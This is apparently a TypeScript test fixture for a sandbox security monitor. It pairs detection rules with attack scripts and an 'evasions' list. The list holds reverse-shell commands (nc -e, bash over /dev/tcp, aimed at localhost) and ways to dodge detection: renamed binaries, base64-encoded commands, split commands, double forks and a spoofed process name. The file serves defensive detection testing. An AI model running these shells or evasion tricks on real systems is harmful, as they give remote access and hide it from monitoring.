import type { Match, Outcome } from '../../../src/monitor/detection.ts';
import { responseTo } from '../../../src/monitor/responses/ladder.ts';
import { loadRules } from '../../../src/monitor/rules/load-rules.ts';
import type { Rule } from '../../../src/monitor/rules/rule.ts';

/** Something that is really done in a sandbox, and what has to come of it. */
export interface Attack {
  readonly name: string;
  /** For `sh`, as root. */
  readonly script: string;
  /** Programs that the sandbox must have. */
  readonly needs: readonly string[];
  readonly rule: string;
  readonly severity: Match['rule']['severity'];
  readonly outcome: Outcome;
  /** Lines of the sandbox's manifest. */
  readonly keys: readonly string[];
}

const outcomeOf = { log: 'logged', alert: 'alerted', network: 'isolated', freeze: 'paused', kill: 'killed' } as const;

/** Only where names are limited does a resolver of coi answer, and only there is anything off the list. */
const listed = ['network.mode = "allowlist"', 'network.allowed_domains = ["web.example.org"]'];
const keysOf: Readonly<Record<string, readonly string[]>> = {
  'network.not-allowed': listed,
  // Less than a person has, so that a test need not move gigabytes.
  'volume.mass-read': ['monitoring.file_read_threshold_mb = 500'],
  'volume.mass-write': ['monitoring.file_write_threshold_mb = 500'],
  'volume.tmp-full': ['limits.disk.tmpfs_size = "64MiB"'],
};

const { rules } = await loadRules({ directories: [] });
const byId = new Map(rules.rules.map((rule) => [rule.about.id, rule]));

/** All rules' own attacks. */
export const ownAttacks: readonly Attack[] = rules.rules.map((rule) => {
  const { attack } = rule;
  if (!attack) throw new Error(`${rule.about.id} has no attack`);
  const script = 'argv' in attack ? attack.argv.map(quoted).join(' ') : attack.script;
  return attackOn(rule, rule.about.id, script, attack.needs ?? []);
});

const shellFromElsewhere = `
nc -lp 4711 >/dev/null 2>&1 </dev/null & sleep 0.5`;

/** Ways around names and words. */
export const evasions: readonly Attack[] = [
  evasion(
    'a renamed netcat',
    'shell.exec-shape',
    'cp "$(readlink -f "$(command -v nc)")" /tmp/vi; /tmp/vi -e /bin/sh 127.0.0.1 9',
  ),
  evasion(
    'a renamed shell, by a script without a trace in any command',
    'shell.program-on-a-socket',
    `cp /bin/bash /tmp/vi; ${shellFromElsewhere}
cat >/tmp/notes <<'END'
exec 3<>/dev/tcp/127.0.0.1/4711; exec /tmp/vi <&3 >&3
END
/tmp/vi /tmp/notes`,
  ),
  evasion(
    'a shell by a script without a trace in any command',
    'shell.on-a-socket',
    `${shellFromElsewhere}
cat >/tmp/notes <<'END'
bash -i >& /dev/tcp/127.0.0.1/4711 0>&1
END
bash /tmp/notes`,
  ),
  evasion(
    'a process that lives for a few milliseconds',
    'miner.program',
    'cp /bin/true /tmp/xmrig; for i in 1 2 3; do /tmp/xmrig; done',
  ),
  evasion('an encoded command', 'shell.netcat-exec', 'echo bmMgLWUgL2Jpbi9zaCAxMjcuMC4wLjEgOQo= | base64 -d | sh'),
  evasion('a command in pieces', 'shell.netcat-exec', 'a=n; b=c; d=-; $a$b ${d}e /bin/sh 127.0.0.1 9'),
  evasion(
    'two forks and no parent',
    'shell.netcat-exec',
    '(setsid sh -c "sleep 0.2; nc -e /bin/sh 127.0.0.1 9 &" &) & wait',
  ),
  evasion('another first word', 'shell.netcat-exec', `bash -c 'exec -a vim nc -e /bin/sh 127.0.0.1 9'`),
  evasion('many words in front', 'shell.netcat-exec', 'nc -v -v -v -v -n -w 1 -e /bin/sh 127.0.0.1 9'),
];

function evasion(name: string, id: string, script: string): Attack {
  return attackOn(byId.get(id)!, name, script, ['nc', 'base64']);
}

function attackOn({ about, event }: Rule, name: string, script: string, needs: readonly string[]): Attack {
  const response = responseTo(about, { freezesOnHigh: true, killsOnCritical: true });
  const keys = keysOf[about.id] ?? (event === 'name' ? listed : []);
  // What else an attack sets off is not to hold the sandbox before what is looked for.
  const others = [...byId.keys()]
    .filter((id) => id !== about.id)
    .map((id) => `${JSON.stringify(id)} = { response = "log" }`);
  const monitoring = `monitoring.rules = { ${others.join(', ')} }`;
  const outcome = outcomeOf[response];
  return { name, script, needs, rule: about.id, severity: about.severity, outcome, keys: [...keys, monitoring] };
}

function quoted(word: string): string {
  return `'${word.replaceAll("'", String.raw`'\''`)}'`;
}
